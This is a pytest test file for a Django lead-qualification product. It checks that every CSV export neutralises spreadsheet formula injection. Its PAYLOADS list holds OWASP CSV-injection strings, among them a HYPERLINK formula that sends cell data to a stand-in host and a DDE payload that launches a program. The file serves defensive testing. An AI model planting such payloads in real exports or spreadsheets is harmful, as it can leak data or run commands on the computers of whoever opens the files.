"""No CSV the product writes starts a spreadsheet formula (OWASP "CSV injection").

Visitors control UTM tags, the referrer, the landing page, their name, email, company and
every message; an admin names the reps. Each of those is seeded with the OWASP payloads and
every export is read back: a cell that starts with = + - @, a tab or a carriage return must
come out with a leading single quote, so a spreadsheet shows it as text. Numbers the product
computes itself (a lead's score may be negative) stay plain numbers.
"""

import csv
import datetime as dt
import io
import re

import pytest
from django.contrib.auth.models import User

from analytics import rollups
from chatbot.models import Message
from qualification.models import Lead
from tests.analytics.factories import LeadFactory, SalesRepFactory, conversation_at, meeting_for, say
from tests.factories import SiteFactory

UTC = dt.timezone.utc
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?e="&C2,"Open lead")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The product's own negative numbers and the lone "-" it writes for "none" stay as they are.
NOT_A_FORMULA = re.compile(r"-(\d+(\.\d+)?)?")
NEGATIVE_SCORE = -15
SCOPE = {"start": "2026-11-01", "end": "2026-11-07"}


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    """No cell starts a formula; a cell that starts with '-' is allowed only as a negative number or a lone dash."""
    live = [
        cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not NOT_A_FORMULA.fullmatch(cell)
    ]
    assert not live, live


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def poisoned(client, db):
    """One conversation per payload, each carrying it in every field a visitor controls; a rep named with one."""
    site = SiteFactory(name="Customer site")
    rep = SalesRepFactory(name="@SUM(1)")
    started = dt.datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
    for n, payload in enumerate(PAYLOADS):
        conversation = conversation_at(
            site=site,
            started=started + dt.timedelta(minutes=n),
            utm={"utm_source": payload, "utm_medium": payload, "utm_campaign": payload},
            referrer=f"https://{payload}",
            page_url=payload,
        )
        say(conversation, 0, Message.Sender.BOT, "Hi! What brings you here?", asked_slot="use_case")
        say(conversation, 10, Message.Sender.VISITOR, payload, intent="nlu_fallback", confidence=0.2)
        lead = LeadFactory(
            conversation=conversation,
            outcome=Lead.Outcome.QUALIFIED,
            decided_at=started,
            score=70,
            email=payload,
            company_name=payload,
            name=payload,
            need_text=payload,
        )
        meeting = meeting_for(conversation, rep=rep, lead=lead, booked_after_seconds=60, day=n)
        meeting.visitor_name = payload
        meeting.save(update_fields=["visitor_name"])
    # A lead the rules scored below zero: its score is a number, not a formula.
    negative = conversation_at(site=site, started=started + dt.timedelta(hours=1))
    LeadFactory(conversation=negative, outcome=Lead.Outcome.NURTURE, score=NEGATIVE_SCORE, company_name="Minus Ltd")
    rollups.refresh()
    client.force_login(User.objects.create_superuser("boss", "boss@vendor.example", "pw"))
    return client


@pytest.mark.parametrize(
    ("export", "payload_column"),
    [
        ("/admin/chatbot/conversation/export-csv/", "Company"),
        ("/admin/qualification/lead/export-csv/", "Company"),
        ("/admin/scheduling/meeting/export-csv/", "Visitor"),
    ],
)
def test_admin_list_exports_neutralise_formulas(poisoned, export, payload_column):
    rows = csv_rows(poisoned.get(export))
    assert_inert(rows)
    assert {"'" + p for p in PAYLOADS} <= set(column(rows, payload_column))


def test_conversation_export_neutralises_utm_and_landing_page(poisoned):
    rows = csv_rows(poisoned.get("/admin/chatbot/conversation/export-csv/"))
    assert_inert(rows)
    assert {f"'{p} / {p}" for p in PAYLOADS} <= set(column(rows, "Source (UTM source / campaign)"))
    assert {"'" + p.split("?")[0] for p in PAYLOADS} <= set(column(rows, "Landing page"))
    assert {"'" + p for p in PAYLOADS} <= set(column(rows, "Email"))


@pytest.mark.parametrize("model", ["chatbot/conversation", "qualification/lead", "scheduling/meeting"])
def test_export_selected_action_neutralises_formulas(poisoned, model):
    page = poisoned.get(f"/admin/{model}/")
    selected = [obj.pk for obj in page.context["cl"].result_list]
    response = poisoned.post(
        f"/admin/{model}/", {"action": "export_selected_csv", "_selected_action": selected, "index": 0}
    )
    rows = csv_rows(response)
    assert_inert(rows)
    assert sum(cell.startswith("'") for row in rows for cell in row) >= len(PAYLOADS)


def test_negative_scores_stay_readable_numbers(poisoned):
    for export in ("/admin/qualification/lead/export-csv/", "/admin/chatbot/conversation/export-csv/"):
        rows = csv_rows(poisoned.get(export))
        assert str(NEGATIVE_SCORE) in column(rows, "Score"), export
        assert f"'{NEGATIVE_SCORE}" not in column(rows, "Score"), export


def test_the_dash_for_none_stays_a_dash(poisoned):
    rows = csv_rows(poisoned.get("/admin/qualification/lead/export-csv/"))
    assert "-" in column(rows, "Decided at")  # the nurture lead was never decided
    assert "'-" not in column(rows, "Decided at")


@pytest.mark.parametrize(
    "table",
    ["funnel", "drop_off", "source_utm", "source_referrer", "source_landing", "reps", "intents", "fallback_days"],
)
def test_dashboard_table_exports_neutralise_formulas(poisoned, table):
    rows = csv_rows(poisoned.get("/admin/analytics/dashboard/", {**SCOPE, "export": table}))
    assert len(rows) > 1, rows
    assert_inert(rows)


@pytest.mark.parametrize(
    ("table", "name"),
    [("source_utm", "UTM source"), ("source_landing", "Landing page"), ("source_referrer", "Referrer host")],
)
def test_dashboard_source_tables_carry_the_payloads_as_text(poisoned, table, name):
    cells = column(csv_rows(poisoned.get("/admin/analytics/dashboard/", {**SCOPE, "export": table})), name)
    quoted = [cell for cell in cells if cell.startswith("'")]
    assert len(quoted) == len(PAYLOADS), cells
    if table == "source_utm":
        assert {"'" + p for p in PAYLOADS} == set(quoted)


def test_dashboard_reps_table_neutralises_a_rep_name(poisoned):
    rows = csv_rows(poisoned.get("/admin/analytics/dashboard/", {**SCOPE, "export": "reps"}))
    assert column(rows, "Rep") == ["'@SUM(1)"]


def test_not_understood_export_neutralises_formulas(poisoned):
    rows = csv_rows(poisoned.get("/admin/analytics/notunderstood/", {**SCOPE, "export": "csv"}))
    assert_inert(rows)
    examples = " | ".join(column(rows, "Examples"))
    for payload in PAYLOADS:
        assert payload in examples
    assert all(cell.startswith("'") for cell in column(rows, "Examples") if cell.startswith(FORMULA_START[1:]))
